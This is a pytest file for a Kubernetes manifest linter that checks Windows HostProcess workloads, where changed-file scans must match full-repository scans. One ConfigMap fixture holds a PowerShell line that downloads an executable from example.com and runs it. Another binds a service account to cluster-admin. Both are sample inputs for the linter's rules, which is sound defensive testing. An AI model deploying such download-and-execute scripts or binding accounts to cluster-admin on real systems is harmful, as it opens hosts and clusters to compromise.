"""What a scan of changed files says of a workload is what a scan of everything says of it."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from changing import git, repository
from overlays import DAEMONSET
from scanning import write

from hostprocess_lint.doors.cli import main
from hostprocess_lint.sources.altering import alters_facts

AGENT = DAEMONSET.replace("name: agent\nspec", "name: agent\n  namespace: kube-system\nspec")
NEW = AGENT.replace("agent:1.0", "agent:2.0")
CLASSED = AGENT.replace("nodeSelector:\n        kubernetes.io/os: windows", "runtimeClassName: host")
NAMED = AGENT.replace("hostNetwork: true\n", "hostNetwork: true\n      serviceAccountName: agent\n")
MOUNTING = AGENT.replace(
    "agent.ps1]", "C:/scripts/agent.ps1]\n        volumeMounts: [{name: s, mountPath: 'C:/scripts'}]"
)
MOUNTING += "      volumes: [{name: s, configMap: {name: scripts}}]\n"
LATER = "metadata: {name: other, namespace: kube-system}"
OTHER = AGENT.replace("metadata:\n  name: agent\n  namespace: kube-system", LATER)


Scan = Callable[..., Any]


def namespace(level: str) -> str:
    labels = f"labels: {{pod-security.kubernetes.io/enforce: {level}}}"
    return f"apiVersion: v1\nkind: Namespace\nmetadata: {{name: kube-system, {labels}}}\n"


CLASS = "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: host}\nhandler: host\n"
SCHEDULED = CLASS + "scheduling: {nodeSelector: {kubernetes.io/os: windows}}\n"
BINDING = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: agent, namespace: kube-system}]
"""
TOKENLESS = """\
apiVersion: v1
kind: ServiceAccount
metadata: {name: default, namespace: kube-system}
automountServiceAccountToken: false
"""
SCRIPT = """\
apiVersion: v1
kind: ConfigMap
metadata: {name: scripts, namespace: kube-system}
data:
  agent.ps1: |
    Invoke-WebRequest http://example.com/x.exe -OutFile x.exe
    ./x.exe
"""
CHART = {
    "chart/Chart.yaml": "apiVersion: v2\nname: agent\nversion: 0.1.0\n",
    "chart/values.yaml": "tag: '1.0'\n",
    "chart/templates/agent.yaml": AGENT.replace("agent:1.0", "agent:{{ .Values.tag }}"),
}
LABEL = "metadata: {name: kube-system, labels: {pod-security.kubernetes.io/enforce: %s}}"
PATCH = "apiVersion: v1\nkind: Namespace\n" + LABEL


def overlay(level: str) -> dict[str, str]:
    """A namespace that an overlay relabels."""
    before = "privileged" if level != "privileged" else "baseline"
    return {
        "base/kustomization.yaml": "resources: [ns.yaml]\n",
        "base/ns.yaml": namespace(before),
        "top/kustomization.yaml": "resources: [../base]\npatches:\n- path: label.yaml\n",
        "top/label.yaml": PATCH % level + "\n",
    }


class Case(NamedTuple):
    """A repository, its change (None deletes), and a rule that the whole of it breaks by another file, or keeps."""

    files: Mapping[str, str]
    change: Mapping[str, str | None]
    rule: str
    breaks: bool = True


CASES = {
    "a workload in a namespace that refuses it": Case(
        {"a.yaml": AGENT, "ns.yaml": namespace("baseline")}, {"a.yaml": NEW}, "HPC112"
    ),
    "a new workload": Case({"ns.yaml": namespace("restricted")}, {"deploy/a.yaml": AGENT}, "HPC112"),
    "a chart": Case({**CHART, "ns.yaml": namespace("baseline")}, {"chart/values.yaml": "tag: '2.0'\n"}, "HPC112"),
    "a list": Case(
        {
            "a.yaml": AGENT,
            "l.json": '{"apiVersion": "v1", "kind": "List", "items": [{"apiVersion": "v1", '
            '"kind": "Namespace", "metadata": {"name": "kube-system", "labels": '
            '{"pod-security.kubernetes.io/enforce": "baseline"}}}]}',
        },
        {"a.yaml": NEW},
        "HPC112",
    ),
    "beside another workload": Case(
        {"a.yaml": AGENT, "ns.yaml": f"{namespace('baseline')}---\n{OTHER}"}, {"a.yaml": NEW}, "HPC112"
    ),
    "a namespace": Case(
        {"a.yaml": AGENT, "ns.yaml": namespace("privileged")}, {"ns.yaml": namespace("baseline")}, "HPC112"
    ),
    "a namespace of a chart's": Case(
        {**CHART, "ns.yaml": namespace("privileged")}, {"ns.yaml": namespace("baseline")}, "HPC112"
    ),
    "a namespace that moves": Case(
        {"a.yaml": AGENT, "ns.yaml": namespace("privileged")},
        {"ns.yaml": None, "n.yaml": namespace("baseline")},
        "HPC112",
    ),
    "an overlay's namespace": Case({"a.yaml": AGENT, **overlay("baseline")}, {"a.yaml": NEW}, "HPC112"),
    "an overlay's label that allows": Case(
        {"a.yaml": AGENT, **overlay("privileged")}, {"a.yaml": NEW}, "HPC112", False
    ),
    "an overlay's label": Case(
        {"a.yaml": AGENT, **overlay("privileged")}, {"top/label.yaml": PATCH % "restricted" + "\n"}, "HPC112"
    ),
    "a runtime class": Case({"a.yaml": CLASSED, "rc.yaml": SCHEDULED}, {"rc.yaml": CLASS}, "HPC211"),
    "a runtime class that is gone": Case({"a.yaml": CLASSED, "rc.yaml": SCHEDULED}, {"rc.yaml": None}, "HPC211"),
    "a workload of a runtime class": Case(
        {"a.yaml": CLASSED, "rc.yaml": SCHEDULED}, {"a.yaml": CLASSED.replace("1.0", "2.0")}, "HPC211", False
    ),
    "rights": Case({"a.yaml": NAMED, "rights.yaml": BINDING}, {"a.yaml": NAMED.replace("1.0", "2.0")}, "HPC415"),
    "new rights": Case({"a.yaml": NAMED}, {"rights.yaml": BINDING}, "HPC415"),
    "an account without a token": Case({"a.yaml": AGENT, "sa.yaml": TOKENLESS}, {"a.yaml": NEW}, "HPC407", False),
    "an account that is gone": Case({"a.yaml": AGENT, "sa.yaml": TOKENLESS}, {"sa.yaml": None}, "HPC407"),
    "a script": Case({"a.yaml": MOUNTING, "s.yaml": SCRIPT}, {"a.yaml": MOUNTING.replace("1.0", "2.0")}, "HPC411"),
    "a script that changes": Case(
        {"a.yaml": MOUNTING, "s.yaml": SCRIPT.replace("http:", "#")}, {"s.yaml": SCRIPT}, "HPC411"
    ),
}


@pytest.fixture
def scan(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Scan:
    def scanned(root: Path, *arguments: str) -> Any:
        monkeypatch.chdir(root)
        capsys.readouterr()
        assert main(["scan", *arguments, "--format", "json"]) in (0, 1)
        return json.loads(capsys.readouterr().out)

    return scanned


@pytest.mark.parametrize("name", CASES)
def test_a_change_is_judged_by_what_has_not_changed(name: str, tmp_path: Path, scan: Scan) -> None:
    case = CASES[name]
    root = changed(case, tmp_path)
    whole = scan(root, ".")
    found = _of(whole, "agent")
    assert any(each["rule"] == case.rule for each in found) is case.breaks, found
    narrowed = scan(root, "--changed-since", "HEAD")
    assert _of(narrowed, "agent") == found
    git(root, "add", "--all")
    there = [path for path, text in case.change.items() if text is not None]
    assert _of(scan(root, "--changed", "--deleted", *there), "agent") == found


def changed(case: Case, directory: Path) -> Path:
    root = repository(directory, case.files)
    write(root, {path: text for path, text in case.change.items() if text is not None})
    for path in (path for path, text in case.change.items() if text is None):
        (root / path).unlink()
    return root


def _of(scan: Any, name: str) -> list[Any]:
    return [each for each in scan["findings"] if each["resource"] and each["resource"]["name"] == name]


def test_nothing_of_the_context_is_reported_or_counted(tmp_path: Path, scan: Scan) -> None:
    root = changed(CASES["beside another workload"], tmp_path)
    write(root, {"broken.yaml": "a: [\n# pod-security.kubernetes.io hostProcess\n"})
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "--message", "second")
    write(root, {"a.yaml": AGENT})
    found = scan(root, "--changed-since", "HEAD")
    assert {each["resource"]["name"] for each in found["findings"]} == {"agent"}
    assert found["coverage"]["judged"] == 1
    assert (found["summary"]["sources"], found["summary"]["documents"]) == (1, 1)


def test_an_image_does_not_tell_of_others() -> None:
    both = f"{BINDING}---\n{CLASSED}"
    assert not alters_facts(both.encode(), both.replace("agent:1.0", "agent:2.0").encode())
    assert not alters_facts(b"a: 1\n", b"a: 2\n")
    assert alters_facts(both.encode(), both.replace("cluster-admin", "view").encode())
    assert alters_facts(b"", BINDING.encode())
    assert alters_facts(BINDING.encode(), b"")
    assert alters_facts(BINDING.encode(), BINDING.encode("utf-16")) is True
    assert alters_facts(None, b"")


def test_a_template_of_pods_does_not_tell_of_others() -> None:
    template = f"{CLASSED.replace('agent:1.0', '{{ .Values.image }}')}---\n{BINDING}"
    assert not alters_facts(template.encode(), template.replace(".image", ".agent").encode())
    assert alters_facts(template.encode(), template.replace("cluster-admin", "{{ .Values.role }}").encode())
